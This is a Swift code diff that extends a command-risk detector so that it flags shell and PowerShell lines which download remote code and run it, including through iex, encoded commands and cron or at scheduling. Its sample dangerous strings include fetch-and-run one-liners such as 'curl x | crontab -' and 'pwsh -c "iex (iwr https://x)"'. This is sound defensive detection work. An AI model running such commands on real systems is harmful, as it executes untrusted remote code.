@@ -2,12 +2,13 @@ extension RiskRule {
   /// Programs that fetch from the network.
   static let fetchers: Set<String> = [
     "curl", "wget", "wget2", "fetch", "aria2c", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "scp", "lynx",
-    "w3m", "ftp", "tftp", "dig", "nslookup", "host",
+    "w3m", "iwr", "irm", "Invoke-WebRequest", "Invoke-RestMethod", "ftp", "tftp", "dig", "nslookup", "host",
   ]
   /// Programs that run what they read.
   static let interpreters: Set<String> = [
     "sh", "bash", "zsh", "dash", "ksh", "fish", "ash", "tcsh", "csh", "python", "python3", "python2", "perl", "ruby",
     "node", "php", "eval", "source", ".", "lua", "osascript", "pwsh", "deno", "bun", "Rscript", "tclsh",
+    "iex", "Invoke-Expression",
   ]
 
   static let remoteCode = RiskRule(
@@ -25,6 +26,8 @@ extension RiskRule {
       "wget -O i.sh https://x && ‹sh i.sh›", "curl -o x https://h && chmod +x x && ‹./x›",
       "wget https://h/a.sh; ‹bash a.sh›",
       "curl -sL x | sudo -E ‹bash -›", "curl x | xargs -I{} ‹sh -c {}›",
+      "‹at -f <(curl x) now›", "curl x | ‹crontab -›",
+      "pwsh -c \"iex (iwr https://x)\"", "powershell -enc SQBFAFgA",
     ],
     harmless: [
       "curl https://x", "curl https://x | grep sh", "curl https://x -o install.sh", "curl https://x | jq .",
@@ -36,12 +39,35 @@ extension RiskRule {
       script.invocations.filter { ["curl", "wget"].contains($0.name ?? "") }.compactMap(downloadedFile))
     return script.invocations.compactMap { invocation in
       guard let name = invocation.name else { return nil }
+      if callsForCode(invocation, name, script) { return Match(level: .danger, range: invocation.range) }
       let isRun =
-        interpreters.contains(name) && !readsOwnProgram(invocation)
+        (interpreters.contains(name) || schedulers.contains(name)) && !readsOwnProgram(invocation)
         && script.sources(of: invocation).contains { fetchers.contains($0.name ?? "") }
       return isRun || runs(invocation, name, oneOf: downloads) ? Match(level: .danger, range: invocation.range) : nil
     }
   }
+
+  /// What runs later what it reads now.
+  private static let schedulers: Set<String> = ["at", "batch", "crontab"]
+
+  /// PowerShell that is told to run what it fetches: `iex (iwr x)`, `pwsh -c "iex …DownloadString(…)"`.
+  private static func callsForCode(_ invocation: Invocation, _ name: String, _ script: InvocationCollector) -> Bool {
+    let evaluators: Set<String> = ["iex", "Invoke-Expression"]
+    if evaluators.contains(name) {
+      return script.invocations.contains { powerFetchers.contains($0.name ?? "") }
+        || invocation.words.contains { ByteSearch.holds("DownloadString", in: $0) }
+    }
+    guard ["pwsh", "powershell", "powershell.exe"].contains(name) else { return false }
+    let words = invocation.words.map { $0.lowercased() }
+    if words.contains(where: { $0.count > 2 && "-encodedcommand".hasPrefix($0) }) { return true }
+    let code = words.joined(separator: " ")
+    return ByteSearch.holdsAny(of: ["iex", "invoke-expression"], in: code)
+      && ByteSearch.holdsAny(of: ["iwr", "irm", "invoke-webrequest", "invoke-restmethod", "downloadstring"], in: code)
+  }
+
+  private static let powerFetchers: Set<String> = [
+    "iwr", "irm", "Invoke-WebRequest", "Invoke-RestMethod", "curl", "wget",
+  ]
 
   private static func runs(_ invocation: Invocation, _ name: String, oneOf downloads: Set<String>) -> Bool {
     guard !downloads.isEmpty else { return false }
